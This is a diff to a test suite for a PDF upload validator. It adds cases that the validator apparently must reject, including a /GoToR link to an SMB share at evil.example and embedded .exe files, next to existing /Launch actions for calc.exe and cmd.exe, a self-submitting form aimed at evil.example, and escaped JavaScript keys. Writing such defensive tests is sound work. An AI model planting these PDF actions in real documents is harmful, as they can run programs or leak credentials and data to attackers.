@@ -32,6 +32,11 @@ describe('hostile uploads', () => {
     ['a /Launch action', makePdf('<< /S /Launch /F (calc.exe) >>')],
     ['a form that submits itself', makePdf('<< /S /SubmitForm /F (https://evil.example/) >>')],
     ['an /ImportData action', makePdf('<< /S /ImportData /F (data.fdf) >>')],
+    ['a /GoToR link to a remote file share', makePdf('<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (smb://evil.example/share/doc.pdf) /D [0 /Fit] >> >>')],
+    ['a /RichMedia annotation', makePdf('<< /Type /Annot /Subtype /RichMedia /RichMediaContent 4 0 R >>')],
+    ['an /XFA form', makePdf('<< /AcroForm << /Fields [] /XFA 5 0 R >> >>')],
+    ['embedded files', makePdf('<< /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>')],
+    ['a file attachment annotation', makePdf('<< /Type /Annot /Subtype /FileAttachment /FS 7 0 R >>')],
     ['a /JS key with its name escaped', makePdf('<< /#4A#53 (app.alert(1)) >>')],
     ['an action in a plain object stream', pdfWithObjectStream('<< /Type /Action /S /Launch /F (cmd.exe) >>', { compress: false })],
     ['an escaped /OpenAction in a compressed object stream', pdfWithObjectStream('<< /Type /Catalog /O#70enAction 3 0 R >>')],
@@ -47,6 +52,8 @@ describe('hostile uploads', () => {
   it('takes a PDF that only mentions such words in its text, and one with a binary image stream', async () => {
     const c = await ctx();
     const { h, id } = await draft(c, 'SN-DEMO-0002');
+    // A plain link needs a click and opens in a browser: allowed.
+    expect((await send(c, h, id, pdf(makePdf('<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/manual) >> >>'), 'link.pdf'))).statusCode).toBe(201);
     const image = zlib.deflateSync(Buffer.from(makeJpeg(64, 64, 5)));
     const withImage = Buffer.concat([
       Buffer.from(`%PDF-1.5\n4 0 obj << /Type /XObject /Subtype /Image /Filter /FlateDecode /Length ${image.length} >> stream\n`),
